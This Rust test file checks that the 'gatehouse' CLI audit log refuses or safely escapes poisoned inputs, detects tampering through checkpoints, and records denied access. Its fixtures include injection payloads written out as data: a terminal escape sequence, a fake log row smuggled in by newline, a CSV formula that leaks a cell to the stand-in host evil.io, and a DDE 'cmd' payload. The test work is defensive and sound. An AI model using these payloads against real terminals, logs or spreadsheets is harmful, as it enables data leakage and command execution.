//! Black-box tests of the audit log under attack (PRODUCT.md rule 8, issue 8 items 1, 5 and 9),
//! against the real `gatehouse` binary: poisoned targets refused or printed safely in every form,
//! checkpoints that catch truncation and rewrites, refusals that leave a trace, the system chain.

use serde_json::Value;
use std::path::Path;

mod common;
use common::*;

/// Eve: an account of organization "beta" only, an outsider to acme.
fn eve(db: &Path) -> &'static str {
    ok(db, &["orgs", "create", "Beta"]);
    let out = ok(db, &["invites", "create", "--org", "beta", "--emails", "eve@beta.io", "--role", "member"]);
    let token = out["invitations"][0]["token"].as_str().unwrap().to_string();
    let (code, _, err) = gh(db, None, PW, &["invites", "accept", &token, "--name", "Eve Outsider"]);
    assert_eq!(code, 0, "accept: {err}");
    "eve@beta.io"
}

fn items(v: &Value) -> Vec<Value> {
    v["items"].as_array().unwrap_or_else(|| panic!("no items in {v}")).clone()
}

fn sql(db: &Path, statements: &str) {
    rusqlite::Connection::open(db).unwrap().execute_batch(statements).unwrap();
}

fn acme_id(db: &Path) -> String {
    rusqlite::Connection::open(db)
        .unwrap()
        .query_row("SELECT id FROM organizations WHERE slug = 'acme'", [], |r| r.get(0))
        .unwrap()
}

/// The text output of a command as the owner, with its exit code and stderr.
fn text(db: &Path, args: &[&str]) -> (i32, String, String) {
    gh_text(db, OWNER, args)
}

const ESCAPE_TARGET: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J";
const FAKE_ROW: &str = "x\n999  2030-01-01T00:00:00Z  ada@acme.io  members.removed  boss@acme.io  {}";
const FORMULA: &str = "=HYPERLINK(\"http://evil.io/?leak=\"&A1,\"click\")";

// ---------------------------------------------------------------------------------------------
// item 1: audit poisoning

#[test]
fn poisoned_arguments_are_refused_and_record_nothing() {
    let (_d, db) = setup();
    let eve = eve(&db);
    let before = items(&ok(&db, &["audit", "list", "--org", ORG])).len();
    let long = "A".repeat(70_000);
    for args in [
        vec!["roles", "delete", "--org", ORG, long.as_str()],
        vec!["roles", "show", "--org", ORG, ESCAPE_TARGET],
        vec!["service-accounts", "revoke", "--org", ORG, FAKE_ROW],
        vec!["roles", "delete", "--org", ORG, FORMULA],
    ] {
        let msg = fails(&db, Some(eve), &args, 2, "invalid_input");
        assert!(msg.len() < 300 && !msg.contains('\u{1b}'), "{msg}");
    }
    assert_eq!(items(&ok(&db, &["audit", "list", "--org", ORG])).len(), before);
    // Eve's refusal on a real role is recorded, in the system chain, not in acme's.
    fails(&db, Some(eve), &["roles", "delete", "--org", ORG, "admin"], 4, "forbidden");
    assert_eq!(items(&ok(&db, &["audit", "list", "--org", ORG])).len(), before);
    let system = items(&ok(&db, &["audit", "list", "--system", "--action", "access.denied"]));
    assert_eq!((system[0]["actor"].as_str(), system[0]["target"].as_str()), (Some(eve), Some("admin")));
    let (code, out, err) = text(&db, &["audit", "list", "--org", ORG]);
    assert_eq!(code, 0, "{err}");
    assert!(!out.contains('\u{1b}'));
}

#[test]
fn events_stored_before_the_fix_print_safely_as_text_csv_and_json() {
    let (_d, db) = setup();
    // Events as an older Gatehouse stored them: raw, unbounded targets. (The chain is not the point.)
    let acme = acme_id(&db);
    let conn = rusqlite::Connection::open(&db).unwrap();
    let long = format!("{}{}", "B".repeat(70_000), ESCAPE_TARGET);
    for (n, target) in
        [long.as_str(), ESCAPE_TARGET, FAKE_ROW, FORMULA, "+1+cmd|'/C calc'!A0", "@SUM(1)"].iter().enumerate()
    {
        conn.execute(
            "INSERT INTO audit_events (id, organization_id, actor, action, target, details, at, prev_hash, hash)
             VALUES (?1, ?2, 'eve@beta.io', 'access.denied', ?3, '{}', 1800000000, '', '')",
            (format!("old{n}"), &acme, target),
        )
        .unwrap();
    }
    drop(conn);
    let events = items(&ok(&db, &["audit", "list", "--org", ORG])).len();

    // Text: no panic on a 70,000-character cell, no escape reaches the terminal, one line a row.
    let (code, out, err) = text(&db, &["audit", "list", "--org", ORG]);
    assert_eq!(code, 0, "{err}");
    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "escape sequences reached the terminal");
    assert!(out.contains("\\u{1b}]0;pwned\\u{7}"), "shown escaped");
    assert_eq!(out.lines().count(), events + 1, "a new line in a target printed a row of its own");
    assert!(!out.lines().any(|l| l.starts_with("999")));

    // CSV: formulas open as text.
    let (code, csv, err) = text(&db, &["audit", "export", "--org", ORG, "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    for (escaped, raw) in [("'=HYPERLINK(", "=HYPERLINK("), ("'+1+cmd", "+1+cmd"), ("'@SUM(1)", "@SUM(1)")] {
        assert!(csv.contains(escaped), "{raw} not escaped");
        assert!(
            !csv.contains(&format!(",{raw}")) && !csv.contains(&format!(",\"{raw}")),
            "{raw} reached the CSV as is"
        );
    }

    // JSON lines: one line an event, control characters escaped by JSON.
    let (code, jsonl, err) = text(&db, &["audit", "export", "--org", ORG, "--format", "jsonl"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(jsonl.lines().count(), events);
    assert!(!jsonl.contains('\u{1b}'));
    let parsed: Vec<Value> = jsonl.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(parsed.iter().any(|e| e["target"] == FAKE_ROW));
}

// ---------------------------------------------------------------------------------------------
// item 5: checkpoints

#[test]
fn checkpoint_then_truncation_rewrite_or_deletion_fails_verify() {
    let (d, db) = setup();
    for name in ["reader", "writer", "auditor"] {
        ok(&db, &["roles", "create", "--org", ORG, name, "--permissions", "org.view"]);
    }
    // To standard output, or to a new private file.
    let printed = ok(&db, &["audit", "checkpoint", "--org", ORG]);
    assert_eq!(keys(&printed), set(&["organization", "events", "head", "at"]));
    assert_eq!(printed["organization"], ORG);
    assert!(is_rfc3339_utc(printed["at"].as_str().unwrap()));
    let file = d.path().join("acme.checkpoint");
    let cp = file.to_str().unwrap();
    let w = ok(&db, &["audit", "checkpoint", "--org", ORG, "--out", cp]);
    assert_eq!(w["events"], printed["events"]);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    }
    let saved: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert_eq!((saved["events"].clone(), saved["head"].clone()), (printed["events"].clone(), printed["head"].clone()));
    // Never overwritten, no link followed.
    fails(&db, Some(OWNER), &["audit", "checkpoint", "--org", ORG, "--out", cp], 6, "conflict");
    #[cfg(unix)]
    {
        let link = d.path().join("link.checkpoint");
        std::os::unix::fs::symlink(d.path().join("elsewhere"), &link).unwrap();
        fails(&db, Some(OWNER), &["audit", "checkpoint", "--org", ORG, "--out", link.to_str().unwrap()], 6, "conflict");
        assert!(!d.path().join("elsewhere").exists());
    }
    let v = ok(&db, &["audit", "verify", "--org", ORG, "--checkpoint", cp]);
    assert_eq!(v["ok"], true);

    // The newest events deleted and the head moved: verify alone passes, with the checkpoint not.
    let acme = acme_id(&db);
    sql(
        &db,
        &format!(
            "DELETE FROM audit_events WHERE seq IN (SELECT seq FROM audit_events WHERE organization_id = '{acme}' ORDER BY seq DESC LIMIT 2);
             UPDATE audit_heads SET
               last_seq = (SELECT max(seq) FROM audit_events WHERE organization_id = '{acme}'),
               last_hash = (SELECT hash FROM audit_events WHERE organization_id = '{acme}' ORDER BY seq DESC LIMIT 1),
               events = (SELECT count(*) FROM audit_events WHERE organization_id = '{acme}')
             WHERE organization_id = '{acme}';"
        ),
    );
    assert_eq!(ok(&db, &["audit", "verify", "--org", ORG])["ok"], true);
    let msg = fails(&db, Some(OWNER), &["audit", "verify", "--org", ORG, "--checkpoint", cp], 6, "conflict");
    assert!(msg.contains("checkpoint"), "{msg}");

    // The whole chain deleted: broken even without a checkpoint.
    sql(&db, &format!("DELETE FROM audit_events WHERE organization_id = '{acme}'; DELETE FROM audit_heads WHERE organization_id = '{acme}';"));
    fails(&db, Some(OWNER), &["audit", "verify", "--org", ORG], 6, "conflict");
    fails(&db, Some(OWNER), &["audit", "verify", "--org", ORG, "--checkpoint", cp], 6, "conflict");

    // A file that is not a checkpoint names --checkpoint.
    let junk = d.path().join("junk.json");
    std::fs::write(&junk, "{\"organization\":\"acme\"}").unwrap();
    let (code, _, err) =
        gh(&db, Some(OWNER), PW, &["audit", "verify", "--org", ORG, "--checkpoint", junk.to_str().unwrap()]);
    assert_eq!((code, err["error"]["code"].as_str()), (2, Some("invalid_input")), "{err}");
    assert!(err["error"]["message"].as_str().unwrap().starts_with("checkpoint"), "{err}");
}

// ---------------------------------------------------------------------------------------------
// item 9: refusals that leave a trace; the system chain

#[test]
fn refusals_leave_a_trace_and_the_system_chain_is_listed_and_verified() {
    let (_d, db) = setup();
    let eve = eve(&db);
    // Eve, signed in, accepts an invitation addressed to someone else.
    let out = ok(&db, &["invites", "create", "--org", ORG, "--emails", "new@acme.io", "--role", "member"]);
    let token = out["invitations"][0]["token"].as_str().unwrap().to_string();
    fails(&db, Some(eve), &["invites", "accept", &token], 4, "forbidden");
    let ev = items(&ok(&db, &["audit", "list", "--org", ORG, "--action", "access.denied"]));
    assert_eq!((ev[0]["actor"].as_str(), ev[0]["target"].as_str()), (Some(eve), Some("new@acme.io")));
    assert_eq!(ev[0]["details"]["attempted"], "invites.accept");

    // A service account cannot leave; its attempt is recorded.
    let sa = ok(&db, &["service-accounts", "create", "--org", ORG, "ci", "--role", "member"]);
    let sa_token = sa["token"].as_str().unwrap().to_string();
    token_fails(&db, &sa_token, &["members", "leave", "--org", ORG], 4, "forbidden");
    let ev = items(&ok(&db, &["audit", "list", "--org", ORG, "--actor", "service-account:ci"]));
    assert_eq!(
        (ev[0]["action"].as_str(), ev[0]["details"]["attempted"].as_str()),
        (Some("access.denied"), Some("members.leave"))
    );

    // An unknown token and a failed sign-in: the system chain.
    token_fails(&db, &format!("ghs_{}", "0".repeat(64)), &["orgs", "list"], 3, "unauthenticated");
    let (code, _, _) = gh(&db, Some("nobody@x.io"), "wrong password", &["orgs", "list"]);
    assert_eq!(code, 3);
    let system = items(&ok(&db, &["audit", "list", "--system"]));
    assert!(system.iter().any(|e| e["action"] == "token.refused" && e["target"] == "ghs_00000000"), "{system:?}");
    assert!(system.iter().any(|e| e["action"] == "signin.failed" && e["target"] == "nobody@x.io"), "{system:?}");
    let (code, out, err) = text(&db, &["audit", "list", "--system"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("SEQ") && out.contains("token.refused"), "{out}");
    let v = ok(&db, &["audit", "verify", "--system"]);
    assert_eq!(v["ok"], true);
    assert!(v["events"].as_u64().unwrap() >= 2);

    // Eve owns no organization: she may not read it. --org and --system are exclusive.
    fails(&db, Some(eve), &["audit", "list", "--system"], 4, "forbidden");
    fails(&db, Some(eve), &["audit", "verify", "--system"], 4, "forbidden");
    assert_eq!(gh(&db, Some(OWNER), PW, &["audit", "list", "--org", ORG, "--system"]).0, 2);
    assert_eq!(gh(&db, Some(OWNER), PW, &["audit", "list"]).0, 2);
}

/// `audit list --action` takes an action as stored or an area of actions (issue 8, "While there":
/// audit actions are one enum); anything else is `invalid_input` naming `action`, not an empty list.
#[test]
fn audit_list_takes_known_actions_and_areas_only() {
    let (_dir, db) = setup();
    ok(&db, &["orgs", "rename", ORG, "Acme Two"]);
    for action in ["org.renamed", "org"] {
        let ev = items(&ok(&db, &["audit", "list", "--org", ORG, "--action", action]));
        assert!(!ev.is_empty() && ev.iter().all(|e| e["action"].as_str().unwrap().starts_with("org.")), "{ev:?}");
    }
    for bad in ["org.renamd", "members.disable", "nope"] {
        let (code, _, err) = gh(&db, Some(OWNER), PW, &["audit", "list", "--org", ORG, "--action", bad]);
        assert_eq!(code, 2, "{bad}: {err}");
        assert_eq!(
            (err["error"]["code"].as_str(), err["error"]["field"].as_str()),
            (Some("invalid_input"), Some("action")),
            "{bad}: {err}"
        );
    }
}
